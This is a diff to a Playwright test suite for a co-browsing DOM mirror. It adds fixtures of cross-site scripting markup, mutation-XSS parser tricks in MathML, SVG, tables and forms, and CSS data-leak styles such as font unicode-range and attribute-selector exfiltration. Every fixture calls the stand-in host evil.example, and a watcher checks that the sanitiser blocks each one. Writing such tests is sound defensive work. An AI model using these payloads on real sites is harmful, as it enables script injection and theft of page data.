@@ -11,7 +11,7 @@ from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
-from playwright.sync_api import Dialog, Page, Request
+from playwright.sync_api import ConsoleMessage, Dialog, Page, Request
 
 from cobrowse.frames import encode
 from cobrowse.ops import (
@@ -20,6 +20,7 @@ from cobrowse.ops import (
     END,
     FLAG_FRAME,
     FLAG_MATHML,
+    FLAG_QUIRKS,
     FLAG_SHADOW,
     FLAG_SVG,
     SIDE,
@@ -30,7 +31,7 @@ from tests.browser.conftest import Browsers
 from tests.browser.test_cobrowse import shared
 from tests.server_process import Server
 
-EVIL = "http://evil.example"
+EVIL = E = "http://evil.example"
 RUN = "top.__ran=1;parent.__ran=1;window.__ran=1;alert(1)"
 MARKUP = f"<img src={EVIL}/m onerror={RUN}><script>{RUN}</script>"
 XLINK = "xlink:href"
@@ -64,8 +65,34 @@ BODIES: dict[str, list[Any]] = {
         "iframe",
         {"src": "javascript:" + RUN},
         element("html", {}, element("script", {}, text(RUN))),
+        [END],
         flags=FLAG_FRAME,
     ),
+    "frame inside with all": element(
+        "iframe",
+        {"srcdoc": MARKUP, "name": "top", "csp": "", "onload": RUN},
+        element(
+            "html",
+            {},
+            element("base", {"href": EVIL}),
+            element("style", {}, text(f"@import '{EVIL}/fc'")),
+            element(
+                "body", {"onload": RUN, "background": f"{EVIL}/fb", "style": f"background: url({EVIL}/fs)"}
+            ),
+            element("img", {"src": f"{EVIL}/fi", "onerror": RUN}),
+            element("iframe", {"src": f"{EVIL}/ff", "sandbox": "allow-scripts"}),
+        ),
+        [END],
+        flags=FLAG_FRAME | FLAG_QUIRKS,
+    ),
+    "frame in a frame": element(
+        "iframe",
+        {},
+        element("iframe", {}, element("script", {}, text(RUN)), [END], flags=FLAG_FRAME),
+        [END],
+        flags=FLAG_FRAME,
+    ),
+    "frame on another element": element("p", {}, element("script", {}, text(RUN)), [END], flags=FLAG_FRAME),
     "object": element(
         "object", {"data": f"{EVIL}/o", "type": "text/html"}, element("param", {"name": "src"})
     ),
@@ -137,9 +164,75 @@ BODIES: dict[str, list[Any]] = {
         element("mtext", {}, element("style", {}, text("<!--</style>" + MARKUP)), flags=FLAG_MATHML),
         flags=FLAG_MATHML,
     ),
+    "mutated by tables": element(
+        "math",
+        {},
+        element(
+            "mtext",
+            {},
+            element(
+                "table",
+                {},
+                element("mglyph", {}, element("style", {}, text("<!--</style>" + MARKUP)), flags=FLAG_MATHML),
+            ),
+            flags=FLAG_MATHML,
+        ),
+        flags=FLAG_MATHML,
+    ),
+    "mutated by svg": element(
+        "svg",
+        {},
+        element("p", {}, element("style", {}, text("</p><style><g title='</style>" + MARKUP + "'>"))),
+        flags=FLAG_SVG,
+    ),
+    "mutated by attributes": element("p", {"title": "</p><noscript>" + MARKUP, "class": "`" + MARKUP}),
+    "mutated by annotation": element(
+        "math",
+        {},
+        element(
+            "annotation-xml",
+            {"encoding": "text/html"},
+            element("svg", {}, element("style", {}, text(MARKUP)), flags=FLAG_SVG),
+            flags=FLAG_MATHML,
+        ),
+        flags=FLAG_MATHML,
+    ),
+    "mutated by forms": element(
+        "form",
+        {},
+        element("table", {}, element("form", {"id": "outer"}, element("input", {"id": "outerHTML"}))),
+    ),
+    "mutated by select": element("select", {}, element("template", {}, text(MARKUP)), text(MARKUP)),
+    "mutated by unknown": element("plaintext", {}, element("listing", {}, text("</listing>" + MARKUP))),
+    "svg link": element(
+        "svg",
+        {},
+        element("a", {XLINK: "javascript:" + RUN, "href": "data:image/svg+xml,x"}, flags=FLAG_SVG),
+        element("use", {"href": f"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x"}, flags=FLAG_SVG),
+        flags=FLAG_SVG,
+    ),
+    "svg paint": element(
+        "svg",
+        {},
+        element(
+            "rect",
+            {"fill": f"url({EVIL}/f#x)", "filter": f"url('{EVIL}/g#x')", "mask": "\\75rl(x)"},
+            flags=FLAG_SVG,
+        ),
+        flags=FLAG_SVG,
+    ),
+    "sound": element("audio", {"src": f"{EVIL}/a", "controls": "", "autoplay": "", "preload": "auto"}),
+    "sources": element(
+        "video",
+        {"autoplay": ""},
+        element("source", {"src": f"{EVIL}/s", "onerror": RUN}),
+        element("track", {"src": f"{EVIL}/t", "default": ""}),
+    ),
+    "canvas content": element("canvas", {"style": f"content: url({EVIL}/c)", "width": "9", "onclick": RUN}),
+    "media attribute": element("style", {"media": f"all; @import '{EVIL}/m'"}),
     "template": element("template", {"shadowrootmode": "open"}, text(MARKUP)),
     "shadow root": element(
-        "div", {}, [*element("style", {}, text(f"@import '{EVIL}/x'"))], flags=FLAG_SHADOW
+        "div", {}, element("style", {}, text(f"@import '{EVIL}/x'")), [END], flags=FLAG_SHADOW
     ),
     "portal": element("portal", {"src": f"{EVIL}/p"}) + element("fencedframe", {"src": f"{EVIL}/f"}),
     "custom": element("x-evil", {"is": "x", "onclick": RUN, "style": f"content: url({EVIL}/c)"}),
@@ -166,6 +259,23 @@ SHEETS = {
     "variables": f":root {{ --u: url({EVIL}/u) }} * {{ background: var(--u); content: var(--u) }}",
     "behaviour": f"* {{ behavior: url({EVIL}/b); -moz-binding: url({EVIL}/m); width: expression({RUN}) }}",
     "end of style": f"</style>{MARKUP}",
+    "letters by fonts": f"@font-face {{ font-family: x; src: url({E}/a); unicode-range: U+61 }}"
+    " * { font-family: x }",
+    "letters by values": f"html:has(input[value^='a']) {{ --x: url({E}/a) }} body {{ background: var(--x) }}",
+    "letters by ligatures": f"@font-face {{ font-family: l; src: url('{E}/l') }} * {{ font: 9px l }}",
+    "string that goes on": f'a {{ content: "\\\n"; background: url({E}/g) }} * {{ background: url({E}/h) }}',
+    "string that breaks": f'* {{ content: "x\n background: url({E}/k); }} * {{ background: url({E}/n) }}',
+    "brace in a comment": f'@media /*{{"*/ screen {{ * {{ background: url({E}/o) }} }} "',
+    "escaped name": f"* {{ background: \\75\\72\\6c({E}/q); background: \\55RL('{E}/r') }}",
+    "address in an address": f"* {{ background: url(url({E}/s)); background: url('x' url({E}/t)) }}",
+    "cross-fade": f"* {{ background: cross-fade(url({E}/u), red); mask: -webkit-cross-fade(url({E}/v)) }}",
+    "shapes": f"* {{ shape-outside: url({E}/w); clip-path: url({E}/x#y); offset-path: url({E}/z#y) }}",
+    "cursors and lists": f"* {{ cursor: url({E}/1), auto; list-style: url({E}/2); border-image: url({E}) }}",
+    "counter style": f"@counter-style x {{ system: cyclic; symbols: url({E}/4) }} * {{ list-style: x }}",
+    "registered property": f"@property --p {{ syntax: '<image>'; initial-value: url({E}/5) }}"
+    " * { background: var(--p) }",
+    "import in a layer": f"@layer a, b; @import '{E}/6' layer(a) supports(display: grid) screen;",
+    "scheme": f'* {{ color-scheme: light dark "; background: url({E}/7) }} * {{ background: url({E}/8) }}',
 }
 
 
@@ -201,6 +311,7 @@ class Watch:
         self.dialogs: list[str] = []
         page.context.on("request", self._asked)
         page.on("dialog", self._asked_somebody)
+        page.on("console", self._told)
 
     def _asked(self, request: Request) -> None:
         if (urlsplit(request.url).hostname or "") not in self.own:
@@ -209,6 +320,11 @@ class Watch:
     def _asked_somebody(self, dialog: Dialog) -> None:
         self.dialogs.append(dialog.message)
         dialog.dismiss()
+
+    def _told(self, entry: ConsoleMessage) -> None:
+        """Stopped by the sandbox only: it should never have come so far."""
+        if "Blocked script execution" in entry.text:
+            self.dialogs.append(entry.text)
 
     def is_clean(self, name: str) -> None:
         ran = [frame.url for frame in self.page.frames if frame.evaluate("'__ran' in window")]
